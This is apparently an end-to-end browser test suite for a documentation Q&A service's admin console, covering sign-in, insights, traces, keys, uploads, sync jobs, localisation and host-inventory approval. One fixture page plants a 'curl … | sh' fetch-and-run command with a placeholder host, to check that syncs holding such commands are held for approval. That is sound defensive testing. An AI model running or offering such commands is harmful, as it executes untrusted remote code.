"""The admin console end to end: headless Chromium against a real `citedocs serve`. A question asked
in the chat shows up in the console's insights; marked down, it shows up among the docs gaps. The
console asks for the admin key once, keeps it for the tab, refuses the wrong kinds of key, and is
usable from the keyboard; an archive uploaded there becomes a corpus once its sync job
finishes; a corpus's inventory is paged and a held sync's additions approved there. Screenshots for the docs are taken on the way (docs/screenshots/admin-*.png).
"""

from __future__ import annotations

import re
import shutil
import time
import zipfile

import httpx
import pytest

from citedocs.service import Services
from citedocs.sync.service import Syncs
from citedocs.sync.worker import JobRunner

from conftest import copy_of_small_home, running_server

pytestmark = pytest.mark.slow

from browser import headless_chromium  # noqa: E402  (skips this module without Chromium)
from selenium.common.exceptions import TimeoutException  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.support.ui import Select, WebDriverWait  # noqa: E402

from test_ui import DONE, SCREENSHOTS  # noqa: E402

ANSWERED = "How do I deploy my Astro site to Heroku?"
GAP = "How do I configure Kubernetes autoscaling for my Astro pods?"
OKAPI_PAGE = """---
title: Okapi
---

## Okapi facts

The okapi is a forest giraffe of central Africa. An okapi has a dark back and striped legs.
"""
OTHER_GAPS = (  # asked over HTTP beforehand, so the charts and gaps have something to show
    "Can I run Astro on Kubernetes with Helm charts?",
    "How do I take Stripe payments in Astro?",
    "How do I refund a Stripe charge from an Astro endpoint?",
    "How do I install a Vite plugin in Astro?",
)


@pytest.fixture(scope="module")
def console_server(small_home, tmp_path_factory):
    home = copy_of_small_home(small_home, tmp_path_factory.mktemp("console-home"))
    services = Services.open(home / "citedocs.sqlite3")
    keys = {
        "admin": services.create_key("default", "console", admin=True)[1],
        "full": services.create_key("default", "backend")[1],
    }
    services.store.close()
    # no per-key rate limit: every test of the module shares this server and its admin key, and the
    # default (a share of the measured capacity) is a few dozen requests a minute on a 2-core machine
    with running_server(home, CITEDOCS_DATABASE_URL="", CITEDOCS_RATE_LIMIT_PER_MINUTE="0") as (base, _):
        for question in OTHER_GAPS:
            httpx.post(f"{base}/ask", json={"question": question}, timeout=120).raise_for_status()
        yield base, keys, home


@pytest.fixture(scope="module")
def driver():
    with headless_chromium(1280, 1400) as browser:  # a laptop's width: every table must read at it
        yield browser


def wait(driver, condition, message, timeout=60):
    try:
        return WebDriverWait(driver, timeout, poll_frequency=0.1).until(condition)
    except TimeoutException:
        shown = [p.text for p in driver.find_elements(By.CSS_SELECTOR, "[role=tabpanel]") if p.is_displayed()]
        logged = [e["message"] for e in driver.get_log("browser") if e["level"] in ("SEVERE", "WARNING")]
        pytest.fail(f"{message}\n--- panel ---\n{''.join(shown)[:3000]}\n--- browser log ---\n" + "\n".join(logged))


def shot(driver, name: str) -> None:
    driver.execute_script("document.activeElement.blur(); window.scrollTo(0, 0)")
    time.sleep(0.3)
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    driver.save_screenshot(str(SCREENSHOTS / f"admin-{name}.png"))


def sign_in(driver, key: str) -> None:
    field = driver.find_element(By.ID, "admin-key")
    wait(driver, lambda d: field.is_displayed(), "the key form never showed")
    field.send_keys(key)
    field.send_keys(Keys.ENTER)


def open_console(driver, base: str, key: str | None = None, query: str = "") -> None:
    """Load the console (``query``: ``?lang=ru``, say); sign in with ``key`` if it asks for one (the
    tab forgot it, or never had it)."""
    driver.get(base + "/admin" + query)
    wait(driver, lambda d: d.execute_script("return !!window.citedocsAdmin"), "the console did not start")
    if key and driver.find_element(By.ID, "sign-in").is_displayed():
        sign_in(driver, key)
        wait(driver, lambda d: d.find_element(By.ID, "console").is_displayed(), "the admin key was not accepted")
        assert not driver.find_element(By.ID, "sign-in").is_displayed()


def test_the_console_refuses_a_missing_wrong_or_non_admin_key(driver, console_server):
    base, keys, _ = console_server
    open_console(driver, base)
    assert driver.switch_to.active_element.get_attribute("id") == "admin-key"
    assert driver.find_element(By.CSS_SELECTOR, "label[for=admin-key]").text == "Admin key"
    shot(driver, "sign-in")
    driver.find_element(By.CSS_SELECTOR, "#sign-in button[type=submit]").click()  # empty: the browser's own check
    assert not driver.find_element(By.ID, "console").is_displayed()
    for key, expected in (("cda_wrong", "invalid api key"), (keys["full"], "admin key required")):
        sign_in(driver, key)
        error = driver.find_element(By.ID, "sign-in-error")
        wait(driver, lambda d: expected in error.text, f"no {expected!r} message")
        assert error.get_attribute("role") == "alert" and not driver.find_element(By.ID, "console").is_displayed()
        assert driver.execute_script("return sessionStorage.getItem('citedocs.adminKey')") is None


def test_a_question_asked_in_the_chat_and_marked_down_shows_in_insights_and_gaps(driver, console_server):
    base, keys, _ = console_server
    driver.get(base + "/")
    wait(driver, lambda d: d.execute_script("return !!window.citedocs"), "the chat did not start")
    for count, question in enumerate((ANSWERED, GAP), start=1):
        box = driver.find_element(By.ID, "question")
        box.send_keys(question)
        box.send_keys(Keys.ENTER)
        wait(driver, lambda d: len(d.find_elements(By.CSS_SELECTOR, DONE)) >= count, f"no answer to {question!r}")
    answered = driver.find_elements(By.CSS_SELECTOR, ".turn")[0]
    answered.find_element(By.CSS_SELECTOR, "button.thumb-down").click()
    answered.find_element(By.CSS_SELECTOR, ".feedback-comment").send_keys("does not say which buildpack")
    answered.find_element(By.CSS_SELECTOR, ".feedback-form button[type=submit]").click()
    status = answered.find_element(By.CSS_SELECTOR, ".feedback-status")
    wait(driver, lambda d: "recorded" in status.text, "no feedback confirmation", timeout=15)

    open_console(driver, base, keys["admin"])
    insights = driver.find_element(By.ID, "insights")
    wait(driver, lambda d: "Docs gaps" in insights.text, "insights never loaded")
    totals = {dt.text: dd.text for dt, dd in zip(insights.find_elements(By.CSS_SELECTOR, ".totals dt"), insights.find_elements(By.CSS_SELECTOR, ".totals dd"))}
    assert totals["Questions"] == str(len(OTHER_GAPS) + 2) and totals["Thumbs down"] == "1"
    gaps = insights.find_element(By.CSS_SELECTOR, ".gaps").text
    assert ANSWERED in gaps and GAP in gaps and "thumbs down (1)" in gaps
    assert "The docs never mention: Kubernetes" in gaps
    assert "does not say which buildpack" in insights.text  # the comment, with its question
    assert len(insights.find_elements(By.CSS_SELECTOR, ".charts svg[role=img]")) == 2
    assert "Answers to review" in insights.text
    shot(driver, "insights")

    driver.find_element(By.ID, "gaps-export").click()  # the gaps as an issue body to paste into a tracker
    issue = driver.find_element(By.ID, "gaps-markdown")
    wait(driver, lambda d: issue.is_displayed() and "## Docs gaps" in issue.get_attribute("value"), "no Markdown issue body")
    stripe = next(g for g in insights.find_elements(By.CSS_SELECTOR, ".gap") if OTHER_GAPS[1] in g.text)
    stripe.find_element(By.TAG_NAME, "button").click()
    wait(driver, lambda d: "Dismissed" in d.find_element(By.ID, "insights-status").text, "the gap was not dismissed")
    gaps = insights.find_element(By.CSS_SELECTOR, ".gaps").text
    assert OTHER_GAPS[1] not in gaps and GAP in gaps and "question(s) dismissed" in gaps


def test_the_console_is_usable_from_the_keyboard_and_keeps_the_key_for_the_tab(driver, console_server):
    base, keys, _ = console_server
    open_console(driver, base)  # a reload: the key is still in this tab's sessionStorage
    wait(driver, lambda d: d.find_element(By.ID, "console").is_displayed(), "the console forgot the key on reload")
    tab = driver.find_element(By.ID, "tab-insights")
    tab.send_keys(Keys.ARROW_RIGHT)
    assert driver.switch_to.active_element.get_attribute("id") == "tab-traces"
    assert driver.find_element(By.ID, "tab-traces").get_attribute("aria-selected") == "true"
    panel = driver.find_element(By.ID, "panel-traces")
    wait(driver, lambda d: GAP in panel.text, "the traces panel never listed the question")
    assert "not helpful: does not say which buildpack" in panel.text
    row = next(r for r in panel.find_elements(By.CSS_SELECTOR, "tbody tr") if ANSWERED in r.text)
    row.find_element(By.CSS_SELECTOR, "button[data-trace]").send_keys(Keys.ENTER)
    detail = driver.find_element(By.ID, "trace-detail")
    wait(driver, lambda d: detail.is_displayed() and "Sources" in detail.text, "no trace details")
    # read as the user saw it: the question, the answer with numbered citations, links to its sources
    assert detail.find_element(By.TAG_NAME, "h3").text == ANSWERED
    assert detail.find_elements(By.CSS_SELECTOR, ".answer p") and detail.find_elements(By.CSS_SELECTOR, ".answer a.cite")
    links = [a.get_attribute("href") for a in detail.find_elements(By.CSS_SELECTOR, "ol.sources a")]
    assert links and all(link.startswith("https://docs.astro.build/") for link in links)
    assert '"cited_hashes"' not in detail.text  # the raw JSON is there, folded away
    shot(driver, "traces")

    driver.find_element(By.ID, "traces-outcome").send_keys("refused")
    driver.find_element(By.CSS_SELECTOR, "#traces-form button[type=submit]").click()
    wait(driver, lambda d: "matching the filters" in d.find_element(By.ID, "traces-status").text, "the filter was not applied")
    outcomes = [r.find_elements(By.TAG_NAME, "td")[3].text for r in panel.find_elements(By.CSS_SELECTOR, "tbody tr")]
    assert outcomes and all(o.startswith("refused") for o in outcomes) and ANSWERED not in panel.text
    row = next(r for r in panel.find_elements(By.CSS_SELECTOR, "tbody tr") if GAP in r.text)
    row.find_element(By.CSS_SELECTOR, "button[data-trace]").click()
    wait(driver, lambda d: "Refused." in detail.text and "Nearest passages" in detail.text, "a refusal's details")
    driver.find_element(By.ID, "traces-outcome").send_keys("marked not helpful")
    driver.find_element(By.CSS_SELECTOR, "#traces-form button[type=submit]").click()
    wait(driver, lambda d: ANSWERED in panel.text and GAP not in panel.text, "the thumbs-down filter")
    driver.find_element(By.ID, "traces-outcome").send_keys("every answer and refusal")
    driver.find_element(By.ID, "traces-since").send_keys("01012020")
    driver.find_element(By.ID, "traces-until").send_keys("01022020")
    driver.find_element(By.CSS_SELECTOR, "#traces-form button[type=submit]").click()
    wait(driver, lambda d: "No trace matches these filters." in panel.text, "the date filter")

    driver.switch_to.active_element.send_keys(Keys.SHIFT, Keys.TAB)  # back to the traces panel's controls
    driver.find_element(By.ID, "tab-traces").send_keys(Keys.END)
    assert driver.switch_to.active_element.get_attribute("id") == "tab-audit"
    driver.find_element(By.ID, "tab-audit").send_keys(Keys.HOME)
    assert driver.switch_to.active_element.get_attribute("id") == "tab-insights"


def test_keys_are_created_and_revoked_from_the_console_and_audited(driver, console_server):
    base, keys, _ = console_server
    open_console(driver, base, keys["admin"])
    driver.find_element(By.ID, "tab-keys").click()
    keys_panel = driver.find_element(By.ID, "panel-keys")
    wait(driver, lambda d: "console" in keys_panel.text, "the keys never loaded")
    driver.find_element(By.ID, "key-name").send_keys("docs team CI")
    driver.find_element(By.CSS_SELECTOR, "#key-form button[type=submit]").click()
    secret = wait(driver, lambda d: d.find_elements(By.CSS_SELECTOR, "#new-secret .secret-value"), "no new secret")[0]
    assert secret.text.startswith("cd_")
    assert httpx.get(f"{base}/corpora", headers={"Authorization": f"Bearer {secret.text}"}).status_code == 200
    shot(driver, "keys")
    row = next(r for r in keys_panel.find_elements(By.CSS_SELECTOR, "tbody tr") if "docs team CI" in r.text)
    row.find_element(By.CSS_SELECTOR, "button.danger").click()
    wait(driver, lambda d: "Revoked" in d.find_element(By.ID, "keys-status").text, "no revocation")
    driver.find_element(By.ID, "tab-audit").click()
    audit = driver.find_element(By.ID, "panel-audit")
    wait(driver, lambda d: "key.revoke" in audit.text and "key.create" in audit.text, "the audit log lacks the key actions")


def test_an_archive_uploaded_in_the_console_becomes_a_corpus_once_its_job_finishes(driver, console_server, tmp_path):
    base, keys, _ = console_server
    archive = tmp_path / "okapi-docs.zip"
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("guides/okapi.mdx", OKAPI_PAGE)
    open_console(driver, base, keys["admin"])
    driver.find_element(By.ID, "tab-corpora").click()
    wait(driver, lambda d: d.find_element(By.ID, "upload-form").is_displayed(), "no upload form")
    assert "small-docs" in driver.find_element(By.ID, "corpora").text
    driver.find_element(By.ID, "upload-corpus").send_keys("okapi-docs")
    driver.find_element(By.ID, "upload-base-url").send_keys("https://docs.example.com/")
    driver.find_element(By.ID, "upload-file").send_keys(str(archive))
    driver.find_element(By.CSS_SELECTOR, "#upload-form button[type=submit]").click()
    corpora_status = driver.find_element(By.ID, "corpora-status")
    wait(driver, lambda d: "Upload of okapi-docs.zip to okapi-docs: job" in corpora_status.text, "the upload was not accepted")

    driver.find_element(By.ID, "tab-jobs").click()
    jobs = driver.find_element(By.ID, "jobs")
    wait(driver, lambda d: "okapi-docs" in jobs.text and "succeeded" in jobs.text, "the upload's job never finished", timeout=240)
    row = next(r for r in jobs.find_elements(By.CSS_SELECTOR, "tbody tr") if "okapi-docs" in r.text)
    assert "upload" in row.text and row.find_element(By.TAG_NAME, "progress").get_attribute("value") == "1"
    row.find_element(By.TAG_NAME, "summary").click()
    assert '"switched": true' in row.find_element(By.CSS_SELECTOR, "details pre").text  # the report: live now
    assert row.find_element(By.CSS_SELECTOR, ".badge.status-succeeded").text == "succeeded"

    driver.find_element(By.ID, "tab-corpora").click()
    corpora = driver.find_element(By.ID, "corpora")
    wait(driver, lambda d: "okapi-docs" in corpora.text and "archive" in corpora.text, "the new corpus is not listed")
    assert words_broken_mid_letter(driver) == []
    shot(driver, "corpora")
    answer = httpx.post(f"{base}/ask", json={"question": "What is an okapi?", "corpus": "okapi-docs"}, timeout=120).json()
    assert not answer["refused"] and answer["citations"][0]["id"].startswith("guides/okapi#")


def words_broken_mid_letter(driver) -> list[str]:
    """Table cells whose text wraps inside a word (measured by the browser: a word's first and last
    letters on different lines), with the cell's text."""
    return driver.execute_script("""
      const broken = [];
      for (const cell of document.querySelectorAll("td")) {
        if (!cell.offsetParent) continue;
        const walker = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
        for (let node = walker.nextNode(); node; node = walker.nextNode()) {
          if (!node.parentElement.checkVisibility()) continue;  // a closed <details>: not laid out
          for (const match of node.textContent.matchAll(/[A-Za-z]{2,}/g)) {
            const range = document.createRange();
            range.setStart(node, match.index);
            range.setEnd(node, match.index + match[0].length);
            if (range.getClientRects().length > 1) broken.push(match[0] + " in: " + cell.textContent.slice(0, 80));
          }
        }
      }
      return broken;""")


def test_a_failed_sync_looks_failed_refreshes_the_panel_and_is_in_the_audit_log(driver, console_server, tmp_path):
    base, keys, home = console_server
    gone = tmp_path / "gone"
    gone.mkdir()
    (gone / "page.mdx").write_text(OKAPI_PAGE, encoding="utf-8")
    services = Services.open(home / "citedocs.sqlite3")  # the operator points the corpus at a folder...
    Syncs(services).set_source("small-docs", "folder", str(gone), {}, "default")
    services.store.close()
    shutil.rmtree(gone)  # ...that is then removed: its next sync fails
    open_console(driver, base, keys["admin"])
    driver.find_element(By.ID, "tab-corpora").click()
    corpora = driver.find_element(By.ID, "corpora")
    wait(driver, lambda d: "small-docs" in corpora.text, "no small-docs corpus")
    row = next(r for r in corpora.find_elements(By.CSS_SELECTOR, "tbody tr") if r.text.startswith("small-docs"))
    row.find_element(By.TAG_NAME, "button").click()
    corpora_status = driver.find_element(By.ID, "corpora-status")
    wait(driver, lambda d: "Sync of small-docs: job" in corpora_status.text and "failed" in corpora_status.text,
         "the panel never said how the sync ended", timeout=240)
    assert "error" in corpora_status.get_attribute("class") and "is gone" in corpora_status.text
    row = next(r for r in corpora.find_elements(By.CSS_SELECTOR, "tbody tr") if r.text.startswith("small-docs"))
    assert row.find_element(By.CSS_SELECTOR, ".badge.status-failed").text == "failed"  # refreshed without a reload
    job_id = corpora_status.text.split("job ", 1)[1].split(" ", 1)[0]
    assert words_broken_mid_letter(driver) == []

    driver.find_element(By.ID, "tab-jobs").click()
    jobs = driver.find_element(By.ID, "jobs")
    wait(driver, lambda d: job_id in jobs.text, "the job is not listed")
    failed = next(r for r in jobs.find_elements(By.CSS_SELECTOR, "tbody tr") if job_id in r.text)
    assert "job-failed" in failed.get_attribute("class") and "is gone" in failed.find_element(By.CSS_SELECTOR, ".job-error").text
    assert failed.find_element(By.CSS_SELECTOR, ".badge.status-failed").value_of_css_property("color") != \
        jobs.find_element(By.CSS_SELECTOR, ".badge.status-succeeded").value_of_css_property("color")
    shot(driver, "jobs")
    assert words_broken_mid_letter(driver) == []
    assert driver.execute_script("return document.documentElement.scrollWidth <= window.innerWidth"), "the jobs table is wider than the window"

    driver.find_element(By.ID, "tab-audit").click()
    audit = driver.find_element(By.ID, "panel-audit")
    wait(driver, lambda d: job_id in audit.text, "the audit log lacks the job's end")
    ended = next(r for r in audit.find_elements(By.CSS_SELECTOR, "tbody tr") if job_id in r.text and "job.ended" in r.text)
    assert "failed" in ended.text and "small-docs" in ended.text and "is gone" in ended.text
    shot(driver, "audit")
    assert words_broken_mid_letter(driver) == []
    assert driver.execute_script("return document.documentElement.scrollWidth <= window.innerWidth"), "the audit log is wider than the window"


def test_the_console_panels_speak_the_admins_language(driver, console_server):
    base, keys, _ = console_server
    open_console(driver, base, query="?lang=ru")
    if driver.find_element(By.ID, "sign-out").is_displayed():  # the tab still has the key: forget it, to see the key form
        driver.find_element(By.ID, "sign-out").click()
    assert driver.execute_script("return document.documentElement.lang") == "ru"
    assert driver.find_element(By.CSS_SELECTOR, "label[for=admin-key]").text == "Ключ администратора"
    intro = driver.find_element(By.CSS_SELECTOR, "#sign-in p:not([id])")
    assert intro.text.startswith("Для консоли нужен ключ администратора") and intro.find_elements(By.TAG_NAME, "code")
    sign_in(driver, keys["admin"])
    wait(driver, lambda d: d.find_element(By.ID, "console").is_displayed(), "the admin key was not accepted")

    insights = driver.find_element(By.ID, "insights")
    wait(driver, lambda d: "Пробелы в документации" in insights.text, "the insights never loaded in Russian")
    headings = [h.text for h in insights.find_elements(By.TAG_NAME, "h2")]
    assert "Самые цитируемые страницы" in headings and "Комментарии к отзывам" in headings
    assert not [h for h in headings if re.search(r"Docs gaps|Most-cited|Feedback comments|Answers to review", h)]
    totals = [dt.text for dt in insights.find_elements(By.CSS_SELECTOR, ".totals dt")]
    assert totals[0] == "Вопросы" and "Questions" not in totals
    assert "Аналитика с " in driver.find_element(By.ID, "insights-status").text
    chart = insights.find_element(By.CSS_SELECTOR, ".charts svg[role=img]")  # drawn by the server, in the console's language
    assert chart.get_attribute("aria-label").startswith("Вопросы по дням")
    assert OTHER_GAPS[0] in insights.text  # the data is shown as stored: the question stays English

    driver.find_element(By.ID, "tab-traces").click()
    panel = driver.find_element(By.ID, "panel-traces")
    wait(driver, lambda d: OTHER_GAPS[0] in panel.text, "the traces never loaded")
    columns = [th.text for th in panel.find_elements(By.CSS_SELECTOR, "#traces thead th")]
    assert columns == ["Когда", "Корпус", "Вопрос", "Итог", "Задержка", "Отзывы", ""]
    assert "Последних трассировок:" in driver.find_element(By.ID, "traces-status").text
    rows = panel.find_elements(By.CSS_SELECTOR, "tbody tr")
    outcomes = [r.find_elements(By.TAG_NAME, "td")[3].text for r in rows]
    # a refusal's reason code after its word stays as stored (the insights and logs count it by that code)
    assert all(o == "с ответом" or re.fullmatch(r"отказ: [a-z ]+", o) for o in outcomes), outcomes
    refused = next(r for r, o in zip(rows, outcomes) if o.startswith("отказ"))
    refused.find_element(By.CSS_SELECTOR, "button[data-trace]").click()
    detail = driver.find_element(By.ID, "trace-detail")
    wait(driver, lambda d: detail.is_displayed() and "Отказ." in detail.text, "no trace details in Russian")
    assert "Ближайшие найденные фрагменты" in detail.text and "Refused" not in detail.text


def test_forgetting_the_key_returns_to_the_key_form(driver, console_server):
    base, keys, _ = console_server
    open_console(driver, base, keys["admin"])
    driver.find_element(By.ID, "sign-out").click()
    assert driver.find_element(By.ID, "sign-in").is_displayed()
    assert driver.execute_script("return sessionStorage.getItem('citedocs.adminKey')") is None
    severe = [e for e in driver.get_log("browser") if e["level"] == "SEVERE" and "/favicon" not in e["message"]]
    # the 401/403/404 answers the tests provoke show up as failed resources; anything else is a bug
    assert all("status of 4" in e["message"] for e in severe), severe


def test_the_inventory_is_paged_a_held_sync_is_approved_and_stale_or_second_approvals_get_a_clear_answer(driver, console_server, tmp_path, monkeypatch):
    base, keys, home = console_server
    monkeypatch.setenv("CITEDOCS_HOME", str(home))  # the inventory is kept in the server's home
    hosts = [f"https://mirror{n:03d}.gizmo-hosts.example/" for n in range(120)]
    docs = tmp_path / "hosts-docs"
    docs.mkdir()
    page = "---\ntitle: Mirrors\n---\n\n# Mirrors\n\n" + "".join(
        f"Mirror {n}: `pip install --index-url {url}simple gizmo`\n\n" for n, url in enumerate(hosts)
    )
    (docs / "mirrors.md").write_text(page, encoding="utf-8")
    services = Services.open(home / "citedocs.sqlite3")
    syncs = Syncs(services)
    services.ingest(docs, "hosts-docs", "https://docs.gizmo.example/", format="mdx")
    syncs.remember_ingested("hosts-docs", "folder", str(docs), "default", {"base_url": "https://docs.gizmo.example/"})

    def sync_here():
        job, created = syncs.start("hosts-docs", "cli", queue=False)
        assert created
        return JobRunner(syncs, job.worker).run(job) or syncs.job(job.id)

    (docs / "mirrors.md").write_text(page + "The fast way: `curl -fsSL https://get.gizmo-fast.example.net/i.sh | sh`.\n", encoding="utf-8")
    assert sync_here().status == "held"

    open_console(driver, base, keys["admin"])
    driver.find_element(By.ID, "tab-inventory").click()
    wait(driver, lambda d: "hosts-docs" in d.find_element(By.ID, "inventory-corpus").text, "no corpus to choose")
    Select(driver.find_element(By.ID, "inventory-corpus")).select_by_value("hosts-docs")
    driver.find_element(By.CSS_SELECTOR, "#inventory-form button[type=submit]").click()
    status = driver.find_element(By.ID, "inventory-status")
    wait(driver, lambda d: re.match(r"1–50 of \d{3} entries", status.text), "the first page of the inventory never showed")
    assert "awaiting the held sync" in status.text and "mirror000.gizmo-hosts.example" in driver.find_element(By.ID, "inventory").text
    pending = driver.find_element(By.ID, "inventory-pending")
    assert "get.gizmo-fast.example.net" in pending.text and "fetch_and_run" in pending.text
    driver.find_element(By.XPATH, "//nav[@id='inventory-pages']/button[text()='Next']").click()
    wait(driver, lambda d: status.text.startswith("51–100 of"), "the next page never showed")
    shot(driver, "inventory")
    assert words_broken_mid_letter(driver) == []
    driver.find_element(By.XPATH, "//nav[@id='inventory-pages']/button[text()='Previous']").click()
    wait(driver, lambda d: status.text.startswith("1–50 of"), "the previous page never showed")

    # a second admin approves the held host first (over HTTP); the console's click then approves nothing new, and says so
    admin = {"Authorization": f"Bearer {keys['admin']}"}
    first = httpx.post(f"{base}/admin/inventory/hosts-docs/approve", json={"hosts": ["get.gizmo-fast.example.net"]}, headers=admin, timeout=60)
    assert first.status_code == 202 and first.json()["approved"] == ["get.gizmo-fast.example.net"]
    pending.find_element(By.XPATH, ".//button[text()='Approve get.gizmo-fast.example.net']").click()
    wait(driver, lambda d: "Already approved (another admin did it first)" in status.text, "the second approval got no clear answer")
    job = first.json()["job"]["id"]
    deadline = time.monotonic() + 300  # the first admin's sync, queued on the server, switches the corpus
    while httpx.get(f"{base}/admin/jobs/{job}", headers=admin, timeout=30).json()["job"]["status"] not in ("succeeded", "failed", "held"):
        assert time.monotonic() < deadline, "the sync the first approval started did not end within 300 s"
        time.sleep(0.5)

    # a host a later sync removed: its stale Approve button is refused with the server's reason, nothing approved
    row = next(r for r in driver.find_elements(By.CSS_SELECTOR, "#inventory tbody tr") if "mirror001.gizmo-hosts.example" in r.text and r.find_elements(By.TAG_NAME, "button"))
    (docs / "mirrors.md").write_text(page.replace(hosts[1], "https://docs.gizmo.example/mirrors/"), encoding="utf-8")
    assert sync_here().status == "succeeded"
    row.find_element(By.TAG_NAME, "button").click()
    wait(driver, lambda d: status.text.startswith("Nothing approved:") and "not in the inventory of corpus 'hosts-docs': mirror001.gizmo-hosts.example" in status.text,
         "the approval of a removed host was not refused clearly")
    assert "error" in status.get_attribute("class")
    services.store.close()
    audit = httpx.get(f"{base}/admin/audit?limit=200", headers=admin, timeout=30).json()
    approvals = [e for e in audit["actions"] if e["action"] == "inventory.approve" and e["target"] == "hosts-docs"]
    assert {e["outcome"] for e in approvals} == {"ok", "rejected"}  # every approval, refused ones too, is audited
